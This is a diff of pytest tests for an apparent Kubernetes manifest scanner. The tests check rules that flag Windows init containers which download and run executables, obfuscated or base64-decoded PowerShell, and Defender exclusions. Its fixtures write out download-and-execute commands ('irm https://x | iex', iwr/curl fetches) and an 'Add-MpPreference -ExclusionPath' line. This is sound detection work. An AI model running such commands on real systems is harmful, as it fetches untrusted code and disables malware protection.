@@ -212,6 +212,78 @@ def test_mounted_scripts_are_read(text: str, reported: bool) -> None:
     assert all(each.location.start[0] == 3 and each.related[0].location.start[0] == 1 for each in findings)
 
 
+def two(first: list[str], second: list[str], volume: dict[str, Any] | None = None, **mounts: str) -> str:
+    """A pod with an init container. `mounts` are where it and the other mount the volume."""
+    container = {"image": "registry.example/a:1.0.0"}
+    places = {name: [{"name": "v", "mountPath": path}] for name, path in mounts.items()}
+    setup = {"name": "setup", **container, "command": first, "volumeMounts": places.get("setup", [])}
+    own = {"name": "a", **container, "command": second, "volumeMounts": places.get("own", [])}
+    return pod(
+        {"volumes": [{"name": "v", **(volume or {"emptyDir": {}})}], "initContainers": [setup], "containers": [own]}
+    )
+
+
+def download(to: str) -> list[str]:
+    return ["powershell", "-Command", f"iwr https://x/a.exe -OutFile {to}"]
+
+
+@pytest.mark.parametrize(
+    ("text", "reported"),
+    [
+        (two(download("C:\\k\\a.exe"), ["C:\\k\\a.exe"]), True),
+        (two(download("/k/A.exe"), ["cmd", "/c", "C:\\k\\a.exe -x"]), True),
+        (two(["cmd", "/c", "curl.exe -Lo C:\\k\\a.ps1 https://x"], ["powershell", "-File", "C:\\k\\a.ps1"]), True),
+        (two(download("C:\\in\\a.exe"), ["C:\\out\\a.exe"], setup="/in", own="C:\\out"), True),
+        (two(download("C:\\in\\a.exe"), ["C:\\x\\a.exe"], {"hostPath": {"path": "C:\\x"}}, setup="/in"), True),
+        (two(download("$env:ProgramData\\x\\a.exe"), ["powershell", "-c", "& $env:ProgramData\\x\\a.exe"]), True),
+        (
+            two(
+                ["powershell", "iwr https://x/a.zip -OutFile a.zip; Expand-Archive a.zip -DestinationPath C:\\k"],
+                ["C:\\k\\bin\\a.exe"],
+            ),
+            True,
+        ),
+        (two(download("C:\\in\\a.exe"), ["C:\\in\\a.exe"], setup="/in", own="C:\\out"), False),
+        (two(download("C:\\k\\a.exe"), ["C:\\k\\b.exe"]), False),
+        (two(download("C:\\k\\a.exe"), ["a.exe"]), False),  # of the image, or of the node
+        (two(download("C:\\k\\a.exe"), ["%CONTAINER_SANDBOX_MOUNT_POINT%\\a.exe"]), False),
+        (two(download("C:\\hpc\\a.exe"), ["C:\\hpc\\a.exe"]), False),  # each container has its own
+        (two(download("C:\\k\\a.json"), ["agent.exe", "C:\\k\\a.json"]), False),
+        (two(["C:\\k\\a.exe"], download("C:\\k\\a.exe")), False),  # the other way round
+    ],
+)
+def test_what_an_init_container_downloads(text: str, reported: bool) -> None:
+    findings = [each for each in scan_text(text, NEW).findings if each.rule == "HPC411"]
+    assert [(each.container, [other.label for other in each.related]) for each in findings] == [
+        ("setup", ["run here"])
+    ] * reported
+    assert all(each.field.startswith("spec.initContainers[0].command") for each in findings)
+
+
+@pytest.mark.parametrize(
+    ("script", "said"),
+    [
+        ("Add-MpPreference -ExclusionPath C:\\k", [("HPC414", "`run.ps1` takes something out of Defender's sight")]),
+        ("powershell -enc AAAA!", [("HPC413", "`run.ps1` cannot be decoded")]),
+        (f"powershell -enc {encoded('irm https://x | iex')}", [("HPC411", "`run.ps1` runs what it downloads")]),
+        (
+            "iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String($x)))",
+            [("HPC413", "`run.ps1` decodes base64")],
+        ),
+        ("[IO.File]::WriteAllBytes('ca.crt', [Convert]::FromBase64String($ca))", []),
+        ("$code = [Convert]::ToBase64String($bytes); powershell -enc $code", []),
+        ("iex $env:CODE", [("HPC413", "`run.ps1` runs what a variable holds")]),
+        ("Get-Date", []),
+    ],
+)
+def test_what_a_mounted_script_does(script: str, said: list[tuple[str, str]]) -> None:
+    config = {**SCRIPT, "data": {"run.ps1": script}}
+    text = f"{json.dumps(config)}\n---\n{mounting('C:/scripts/run.ps1')}\n"
+    findings = [each for each in scan_text(text, NEW).findings if each.rule in ("HPC411", "HPC413", "HPC414")]
+    assert [(each.rule, each.label) for each in findings] == said
+    assert all([other.label for other in each.related] == ["the script"] for each in findings)
+
+
 def test_a_script_may_stand_in_a_file_of_its_own(tmp_path: Path) -> None:
     (tmp_path / "a.yaml").write_text(json.dumps(SCRIPT))
     (tmp_path / "b.yaml").write_text(mounting("C:\\scripts\\run.ps1"))
